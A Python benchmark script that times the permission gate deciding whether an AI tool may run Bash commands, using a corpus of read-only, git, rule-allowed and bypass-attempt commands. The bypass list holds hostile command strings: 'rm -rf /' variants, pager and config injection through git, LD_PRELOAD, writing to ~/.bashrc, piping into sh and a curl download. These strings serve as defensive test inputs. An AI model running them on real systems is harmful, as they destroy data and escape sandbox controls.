"""Benchmark the Bash permission decision: time per command over a realistic corpus.

Run:  .venv/bin/python bench/bench_matcher.py [--commands 1000] [--rounds 5]
Prints a Markdown table. Not a test: numbers depend on the machine; see docs/PERFORMANCE.md.

The corpus mixes read-only commands, compound ones, git in a temporary repository (whose
configuration is vetted on every git command), commands allowed by rules, and bypass
attempts. Each command goes through ``decide`` (the gate's entry point, which calls
``evaluate_command``) with the repository as cwd. The first round starts with cold caches.
"""

from __future__ import annotations

import argparse
import os
import random
import statistics
import subprocess
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from aimon_core.filesystem import repository_is_inert
from aimon_core.permission import PermissionRules, decide
from aimon_core.tools import builtin_tools

READ_ONLY = [
    "ls -la", "ls -la src", "cat README.md", "head -n 20 a.txt", "tail -n 50 log.txt",
    "wc -l src/*.py", "grep -rn TODO src", "rg -n 'def main' src", "find . -name '*.py'",
    "sed -n '1,40p' a.txt", "sort -u names.txt", "cut -d: -f1 /etc/passwd", "stat a.txt",
    "du -sh .", "file a.txt", "diff -u a.txt b.txt", "uniq -c names.txt", "date +%Y-%m-%d",
    "tree -L 2", "echo done", "pwd", "which python", "realpath a.txt", "nl a.txt",
]
COMPOUND = [
    "cat a.txt | grep -n foo | sort | uniq -c | head", "ls -la && pwd", "grep -c x a.txt || true",
    "find . -type f -name '*.py' | wc -l", "echo start; ls src; echo end",
    "[ -f setup.py ] && cat setup.py", "git status && git diff --stat",
    "git log --oneline -5 | head -3", "rg -l TODO | sort | head -20",
]
GIT = [
    "git status", "git status --short", "git log --oneline -10", "git diff", "git diff --stat",
    "git show HEAD --stat", "git branch -a", "git branch --show-current", "git rev-parse HEAD",
    "git ls-files", "git blame a.txt", "git grep -n TODO", "git tag -l", "git remote -v",
    "git config --get user.name", "git describe --tags --always", "git --no-pager log -3",
]
RULE_ALLOWED = [
    "npm test", "npm run build -- --watch=false", "make test", "pytest -q tests",
    "python -m pytest -x", "cargo build --release", "go test ./...", "git push origin main",
    "git commit -m 'fix: thing'", "npm install left-pad",
]
BYPASS = [
    "sort --outp=x names.txt", "sort -no x names.txt", "sed -n '1p' a.txt -i",
    "sed 's/a/b/w out' a.txt", "git -c core.pager='sh -c id' log", "git grep -Ovim TODO",
    "git log --output=/tmp/x", "uniq in out", "file -C -m magic", "date -s 2020-01-01",
    "rg --pre ./evil.sh x", "find . -exec rm {} \\;", "echo $(rm -rf /)", "bash -c 'rm -rf /'",
    "FOO=$(id) ls", "LD_PRELOAD=/tmp/x.so ls", "ls > ~/.bashrc", "cat x | sh",
    "git --config-env=core.pager=EVIL log", "rm -rf build", "curl -sSLo /tmp/x https://e.x",
    "env -S 'rm -rf /'", "xargs rm < files.txt", "\\rm -rf /", "/bin/rm -rf /",
]
MIX = (("read-only", READ_ONLY, 30), ("compound", COMPOUND, 15), ("git", GIT, 25),
       ("rule-allowed", RULE_ALLOWED, 10), ("bypass attempt", BYPASS, 20))
RULES = PermissionRules.parse(
    allow=("Bash(npm test)", "Bash(npm run build:*)", "Bash(make:*)", "Bash(pytest:*)",
           "Bash(python -m pytest:*)", "Bash(cargo build:*)", "Bash(go test:*)",
           "Bash(git:*)", "Bash(sort:*)", "Bash(sed:*)", "Bash(uniq:*)", "Bash(npm install:*)"),
    deny=("Bash(rm:*)", "Bash(git push:*)"),
)


def corpus(n: int, seed: int = 7) -> list[tuple[str, str]]:
    """Return n (category, command) pairs in the mix's proportions, shuffled."""
    rng = random.Random(seed)
    out: list[tuple[str, str]] = []
    for category, commands, percent in MIX:
        out += [(category, rng.choice(commands)) for _ in range(n * percent // 100)]
    rng.shuffle(out)
    return out


def make_repo(root: Path) -> Path:
    """Create a small real repository with a remote and a commit."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}

    def git(*args: str) -> None:
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *args], cwd=root,
                       env=env, check=True, capture_output=True)

    root.mkdir()
    git("init", "-q")
    for i in range(50):
        (root / f"f{i}.txt").write_text(f"{i}\n")
    git("add", ".")
    git("commit", "-qm", "init")
    git("remote", "add", "origin", "https://example.com/x.git")
    return root


def percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(p * len(ordered)))]


def measure(fn: Callable[[], object], runs: int) -> list[float]:
    out = []
    for _ in range(runs):
        started = time.perf_counter_ns()
        fn()
        out.append((time.perf_counter_ns() - started) / 1e6)
    return out


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--commands", type=int, default=1000)
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    bash = next(t for t in builtin_tools() if t.name == "Bash")
    with tempfile.TemporaryDirectory() as tmp:
        repo = make_repo(Path(tmp) / "repo")
        commands = corpus(args.commands)
        times: dict[str, list[tuple[float, float]]] = {category: [] for category, _, _ in MIX}
        first_round: list[tuple[float, float]] = []
        for round_ in range(args.rounds):
            for category, command in commands:
                wall, cpu = time.perf_counter_ns(), time.thread_time_ns()
                decide(bash, {"command": command}, RULES, repo, cwd=repo)
                sample = ((time.perf_counter_ns() - wall) / 1e6,
                          (time.thread_time_ns() - cpu) / 1e6)
                times[category].append(sample)
                if round_ == 0:
                    first_round.append(sample)
        every = [t for ts in times.values() for t in ts]
        print(f"{len(commands)} commands x {args.rounds} rounds, cwd = a temporary git repo\n")
        print("| what | n | wall p50 | wall p99 | wall max | CPU p50 | CPU p99 |\n"
              "|---|---|---|---|---|---|---|")
        rows = [*times.items(), ("all", every), ("all, first round (cold caches)", first_round)]
        for name, samples in rows:
            wall_ms = [w for w, _ in samples]
            cpu_ms = [c for _, c in samples]
            print(f"| {name} | {len(samples)} | {percentile(wall_ms, 0.5):.3f} ms | "
                  f"{percentile(wall_ms, 0.99):.3f} ms | {max(wall_ms):.3f} ms | "
                  f"{percentile(cpu_ms, 0.5):.3f} ms | {percentile(cpu_ms, 0.99):.3f} ms |")
        repository_is_inert(repo)
        warm = measure(lambda: repository_is_inert(repo), 500)
        config = repo / ".git" / "config"
        spawn = measure(lambda: subprocess.run(
            ["git", "config", "--file", str(config), "--list", "--null"], capture_output=True,
            env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull},
            check=True), 30)
        print(f"| repository vetting alone, warm cache | 500 | {statistics.median(warm):.3f} ms"
              f" | {percentile(warm, 0.99):.3f} ms | {max(warm):.3f} ms | | |")
        print(f"| for scale: `git config --file F --list` as a subprocess | 30 | "
              f"{statistics.median(spawn):.3f} ms | {percentile(spawn, 0.99):.3f} ms | "
              f"{max(spawn):.3f} ms | | |")


if __name__ == "__main__":
    main()
